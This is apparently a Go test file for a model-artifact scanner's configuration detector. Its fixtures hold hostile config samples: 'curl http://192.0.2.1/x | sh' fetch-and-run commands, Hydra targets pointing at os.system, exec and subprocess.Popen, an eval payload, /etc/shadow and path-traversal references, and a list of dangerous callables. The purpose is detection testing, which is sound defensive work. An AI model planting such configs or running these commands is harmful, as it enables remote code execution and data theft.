package config_test

import (
	"io/fs"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/modelaudit/modelaudit/internal/artifact"
	"github.com/modelaudit/modelaudit/internal/audit"
	"github.com/modelaudit/modelaudit/internal/detector"
	"github.com/modelaudit/modelaudit/internal/detector/config"
	"github.com/modelaudit/modelaudit/internal/detector/detectortest"
	"github.com/modelaudit/modelaudit/internal/hostile"
)

const text = "text has no end that could be missing"

func cases() []detectortest.Case {
	remote, calls := []string{"config-remote-code"}, []string{"config-calls-dangerous"}
	cases := []detectortest.Case{
		{Name: "model", File: "config.json", Data: []byte(`{"model_type": "llama", "architectures": ["LlamaForCausalLM"], "torch_dtype": "float16", "_name_or_path": "a/b"}`)},
		{Name: "tokenizer", File: "tokenizer_config.json", Data: []byte(`{"tokenizer_class": "LlamaTokenizer", "added_tokens_decoder": {"0": {"content": "import os"}}, "trust_remote_code": false}`)},
		{Name: "auto_map", File: "config.json", Data: []byte(`{"auto_map": {"AutoConfig": "configuration_x.X", "AutoModel": "modeling_x.XModel"}}`), Want: remote},
		{Name: "auto_map of a tokenizer", File: "tokenizer_config.json", Data: []byte(`{"auto_map": {"AutoTokenizer": ["tokenization_x.X", null]}}`), Want: remote},
		{Name: "kernels of somebody", File: "config.json", Data: []byte(`{"_attn_implementation": "evil/kernels@main:f"}`), Want: remote},
		{Name: "kernels of a part", File: "config.json", Data: []byte(`{"model_type": "llava", "attn_implementation": {"text_config": "sdpa", "vision_config": "evil/kernels"}}`), Want: remote},
		{Name: "kernels between bars", File: "config.json", Data: []byte(`{"_attn_implementation": "paged|evil/kernels|sdpa"}`), Want: remote},
		{Name: "kernels that are known", File: "config.json", Data: []byte(`{"model_type": "llama", "attn_implementation": "kernels-community/flash-attn"}`)},
		{Name: "an implementation", File: "config.json", Data: []byte(`{"model_type": "llama", "_attn_implementation": "flash_attention_2"}`)},
		{Name: "auto_map elsewhere", File: "config.json", Data: []byte(`{"auto_map": {"AutoModel": "other/model--modeling_x.XModel"}}`), Want: remote},
		{Name: "auto_map in other letters", File: "config.json", Data: []byte(`{"\u0061uto_map": {"AutoModel": "a.B"}}`), Want: remote},
		{Name: "auto_map in UTF-16", File: "config.json", Data: wide(`{"auto_map": {"AutoModel": "a.B"}}`), Want: remote},
		{Name: "custom pipeline", File: "config.json", Data: []byte(`{"custom_pipelines": {"x": {"impl": "pipeline_x.X", "pt": ["AutoModel"], "type": "text"}}}`), Want: remote},
		{Name: "trusts", File: "settings.json", Data: []byte(`{"model": {"trust_remote_code": true}}`), Want: []string{"config-trusts-remote-code"}},
		{Name: "trusts in YAML", File: "serve.yaml", Data: []byte("engine:\n  trust_remote_code: yes\n"), Want: []string{"config-trusts-remote-code"}, AnyPrefix: text},
		{Name: "Hydra", File: "config.yaml", Data: []byte("model:\n  _target_: torch.nn.Linear\n  in_features: 2\ntarget: os.path\n"), AnyPrefix: text},
		{Name: "Hydra in JSON", File: "x.json", Data: []byte(`{"_target_": "builtins.exec"}`), Want: calls},
		{Name: "Hydra by another path", File: "x.json", Data: []byte(`{"_target_": "random._os.system"}`), Want: calls},
		{Name: "Hydra fetches", File: "x.json", Data: []byte(`{"a": {"path": "os.system", "_target_": "hydra.utils.get_method"}}`), Want: calls},
		{Name: "Hydra fetches its first argument", File: "x.json", Data: []byte(`{"_target_": "hydra.utils.get_object", "_args_": ["builtins.exec"]}`), Want: calls},
		{Name: "Hydra fetches one of many", File: "x.json", Data: []byte(`{"b": [` + strings.Repeat(`{"path": "os.system"}, `, 1500) +
			`{"_target_": "hydra.utils.get_object", "path": "os.system"}]}`), Want: calls},
		{Name: "Hydra fetches a class", File: "x.json", Data: []byte(`{"_target_": "hydra.utils.get_class", "path": "torch.nn.ReLU"}`)},
		{Name: "a path of a class", File: "x.json", Data: []byte(`{"_target_": "project.Files", "path": "os.system"}`)},
		{Name: "loader of MLflow", File: "MLmodel", Data: []byte("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"), AnyPrefix: text},
		{Name: "loader of its own", File: "MLmodel", Data: []byte("flavors:\n  python_function:\n    loader_module: my_loader\n    code: code\n"), Want: remote, AnyPrefix: text},
		{Name: "loader that runs code", File: "MLmodel", Data: []byte("flavors:\n  python_function:\n    loader_module: os\n"), Want: calls, AnyPrefix: text},
		{Name: "class_path", File: "x.yml", Data: []byte("class_path: subprocess.Popen\ninit_args: {args: [echo, poc]}\n"), Want: calls, AnyPrefix: text},
		{Name: "target with params", File: "x.yml", Data: []byte("target: builtins.eval\nparams: {x: 1}\n"), Want: calls, AnyPrefix: text},
		{Name: "type of a registry", File: "x.yml", Data: []byte("model:\n  type: os.system\n  command: echo poc\n"), Want: calls, AnyPrefix: text},
		{Name: "runtime of MLServer", File: "model-settings.json", Data: []byte(`{"name": "m", "implementation": "subprocess.Popen"}`), Want: calls},
		{Name: "activation of sentence-transformers", File: "2_Dense/config.json", Data: []byte(`{"in_features": 1, "activation_function": "os.system"}`), Want: calls},
		{Name: "code for a resolver", File: "x.yml", Data: []byte("a: ${eval:\"__import__('os').system('echo poc')\"}\n"), Want: calls, AnyPrefix: text},
		{Name: "step of a build", File: "cog.yaml", Data: []byte("build:\n  run:\n  - curl http://192.0.2.1/x | sh\n"), Want: []string{"config-command-harmful"}, AnyPrefix: text},
		{Name: "long code for a resolver", File: "x.yml", Data: []byte("a: ${eval:\"" + strings.Repeat(" ", 8<<10) + "__import__('os').system('echo poc')\"}\n"), Want: calls, AnyPrefix: text, Heavy: true},
		{Name: "long command", File: "MLproject", Data: []byte("entry_points:\n  main:\n    command: \"" + strings.Repeat("echo a; ", 1<<10) + "curl http://192.0.2.1/x | sh\"\n"), Want: []string{"config-command-harmful"}, AnyPrefix: text, Named: "MLflow knows it by its name", Heavy: true},
		{Name: "entry point of a project", File: "MLproject", Data: []byte("entry_points:\n  main:\n    command: \"curl http://192.0.2.1/x | sh\"\n"), Want: []string{"config-command-harmful"}, AnyPrefix: text, Named: "MLflow knows it by its name"},
		{Name: "command of a tool", File: "mcp.json", Data: []byte(`{"command": "sh", "args": ["-c", "curl http://192.0.2.1/x | sh"]}`), Want: []string{"config-command-harmful"}},
		{Name: "step that installs", File: "config.json", Data: []byte(`{"model_type": "x", "run": "curl -fsSL https://example.org/x | sh"}`)},
		{Name: "damaged tokenizer", File: "tokenizer.json", Data: []byte(`{"version": "1.0", "added_tok`), Unread: true},
		{Name: "damaged package", File: "m.mlpackage/Manifest.json", Data: []byte(`{"fileFormatVersion": "1.`), Unread: true},
		{Name: "damaged before its first value", File: "config.json", Data: []byte(`{"auto_map": {`), Unread: true},
		{Name: "model elsewhere", File: "MLmodel", Data: []byte("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../../x.pkl\n"), Want: []string{"config-file-escapes"}, AnyPrefix: text},
		{Name: "secrets for a model", File: "model-settings.json", Data: []byte(`{"name": "m", "parameters": {"uri": "/etc/shadow"}}`), Want: []string{"config-file-escapes"}},
		{Name: "model of a package elsewhere", File: "m.mlpackage/Manifest.json", Data: []byte(`{"itemInfoEntries": {"A": {"path": "../../x", "name": "model.mlmodel"}}}`), Want: []string{"config-file-escapes"}},
		{Name: "layer elsewhere", File: "modules.json", Data: []byte(`[{"path": "../../x", "type": "sentence_transformers.models.Transformer"}]`), Want: []string{"config-file-escapes"}},
		{Name: "model of a server", File: "MLmodel", Data: []byte("artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    uri: s3://a/b\n"), AnyPrefix: text},
		{Name: "adapter", File: "adapter_config.json", Data: []byte(`{"auto_mapping": {"base_model_class": "X", "parent_library": "os.system"}}`), Want: calls},
		{Name: "modules", File: "m/modules.json", Data: []byte(`[{"idx": 0, "type": "sentence_transformers.models.Transformer"}]`)},
		{Name: "modules with code", File: "m/modules.json", Data: []byte(`[{"idx": 0, "type": "custom_st.Transformer"}]`), Want: remote},
		{Name: "modules that run code", File: "m/modules.json", Data: []byte(`[{"idx": 0, "type": "runpy.run_path"}]`), Want: calls},
		{Name: "signs in what cannot be parsed", File: "x.yaml", Data: []byte("a:\t- {chat_template: x}\n"), Unread: true},
		{Name: "cut", File: "config.json", Data: []byte(`{"auto_map": {"AutoModel": "a.B"`), Want: remote, Unread: true},
	}
	for path, want := range map[string]string{
		"keras.layers.Dense": "", "timm.create_model": "", "torch.hub.load": "config-calls-suspicious", "logging.FileHandler": "",
		"hydra._internal.core_plugins.basic_launcher.BasicLauncher": "", "hydra.utils.get_class": "", "functools.partial": "",
		"datasets.load_dataset": "", "lightning.pytorch.callbacks.ModelCheckpoint": "", "builtins.open": "config-calls-dangerous",
		"shutil.rmtree": "config-calls-dangerous", "pickle.loads": "config-calls-dangerous", "linecache.getline": "config-calls-suspicious",
		"torch.utils.cpp_extension.load": "config-calls-dangerous", "pip.main": "config-calls-dangerous", "project.models.Net": "",
	} {
		cases = append(cases, detectortest.Case{Name: path, File: "x.json", Data: []byte(`{"_target_": "` + path + `"}`), Want: strings.Fields(want)})
	}
	return cases
}

// wide encodes text in UTF-16, little-endian, as Python detects it.
func wide(s string) []byte {
	var out []byte
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

func TestDetector(t *testing.T) { detectortest.Run(t, config.Detector, cases()) }

// TestNotOurs: JSON and YAML of other purposes is left alone.
func TestNotOurs(t *testing.T) {
	for file, data := range map[string]string{
		"package.json": `{"name": "x", "target": "es2020", "template": "react"}`, "chart.yaml": "a: {{ .Values.x }}\nb: {{- if }}\n",
		"mkdocs.yml": "theme: material\nnav: [a, b]\n", "broken.json": `{"template": `, "list.json": `[1, 2]`,
	} {
		if got := detectortest.Scan([]*detector.Detector{config.Detector}, file, []byte(data)); got.Status != audit.NotAModel {
			t.Errorf("%s: got %s %s, want not-a-model", file, got.Status, got.Reason)
		}
	}
}

// TestTemplates: templates go back to the scan under a name that says so.
func TestTemplates(t *testing.T) {
	for _, c := range []struct{ file, data, want string }{
		{"tokenizer_config.json", `{"chat_template": "{{ x }}"}`, "chat_template.jinja: {{ x }}"},
		{"tokenizer_config.json", `{"chat_template": [{"name": "default", "template": "{% if x %}{% endif %}"}, {"name": "b", "template": "none"}]}`,
			"chat_template.[0].template.jinja: {% if x %}{% endif %}"},
		{"chat_template.json", `{"chat_template": {"default": "{{ x }}"}}`, "chat_template.default.jinja: {{ x }}"},
		{"chat_template.json", `{"chat_template": {"a": [["{{ x }}"]], "b": "{{ y }}"}, "c": {"d": "{{ z }}"}, "e": "{{ z }}"}`,
			"chat_template.a.[0].[0].jinja: {{ x }},chat_template.b.jinja: {{ y }}"},
		{"serve.yaml", "chat_template: |\n  {{ x }}\n", "chat_template.jinja: {{ x }}\n"},
		{"prompt.yaml", "_type: prompt\ntemplate_format: jinja2\ntemplate: '{{ x }}'\n", "template.jinja: {{ x }}"},
	} {
		if got := strings.Join(detectortest.Told(t, config.Detector, c.file, []byte(c.data)), ","); got != c.want {
			t.Errorf("%s %s: got %q, want %q", c.file, c.data, got, c.want)
		}
	}
}

// TestComponents: a part of a pipeline whose library is a file beside it.
func TestComponents(t *testing.T) {
	beside := func(name string) (artifact.Entry, error) {
		if name == "unet/my_unet.py" {
			return artifact.Entry{Size: 1}, nil
		}
		return artifact.Entry{}, fs.ErrNotExist
	}
	for data, want := range map[string]string{
		`{"_class_name": "X", "unet": ["my_unet", "MyUNet"]}`:                   "config-remote-code",
		`{"_class_name": "X", "unet": ["diffusers", "UNet2DConditionModel"]}`:   "",
		`{"_class_name": "X", "safety_checker": ["stable_diffusion", "Check"]}`: "",
	} {
		file := artifact.File{Path: "model_index.json", Content: hostile.Bytes(data), Size: int64(len(data)), Open: beside}
		got := detectortest.ScanFile([]*detector.Detector{config.Detector}, file)
		if ids := strings.Join(detectortest.RuleIDs(got), " "); ids != want {
			t.Errorf("%s: got %q, want %q", data, ids, want)
		}
	}
}
